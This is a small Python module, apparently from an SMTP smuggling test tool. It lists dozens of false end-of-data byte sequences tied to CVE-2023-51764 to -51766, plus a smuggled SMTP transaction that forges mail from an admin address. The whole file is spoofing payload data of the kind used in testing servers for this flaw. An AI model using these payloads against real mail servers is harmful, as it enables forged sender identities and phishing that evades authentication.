"""False ends of a message, and the transaction smuggled behind one."""

# Sequences that some servers take for the end of a message (CVE-2023-51764, -51765, -51766)
FALSE_END_SEQUENCES = [
    b"\n.\n",
    b"\n.\r",
    b"\n.\r\n",
    b"\n\n.\r\n",
    b"\n.\n\n",
    b"\r.\r",
    b"\r.\n",
    b"\r.\r\n",
    b"\r\r.\r\r",
    b"\r\n.\n",
    b"\r\n.\r",
    b"\r\n.\r\r\n",
    b"\r\n\r.\r\n",
    b"\r\n\n.\r\n",
    b"\r\r\n.\r\r\n",
    b"\r\n\0.\r\n",
    b"\r\n.\0\r\n",
    b"\r\n.\r\0\n",
    b"\r\0\n.\r\n",
    b"\r\n. \r\n",
    b"\r\n.\t\r\n",
    b"\r\n .\r\n",
    b"\r\n..\r\n",
    b"\r\n...\r\n",
    b"\r\n.\x1a\r\n",
    b"\r\n\x0b.\r\n",
    b"\x0c.\x0c",
    b"\x1a",
    b"\x04",
    b"\xff\xf4\xff\xfd\x06",
    "\u2028.\u2028".encode(),
    "\x85.\x85".encode(),
    b"\x85.\x85",
    b"\r\n\xc0\xae\r\n",
    "\r\n\uff0e\r\n".encode(),
]
SMUGGLED_TRANSACTION = (
    b"MAIL FROM:<carol@example.net>\r\nRCPT TO:<bob@example.org>\r\nDATA\r\n"
    b"From: admin@example.org\r\n\r\nForged\r\n"
)
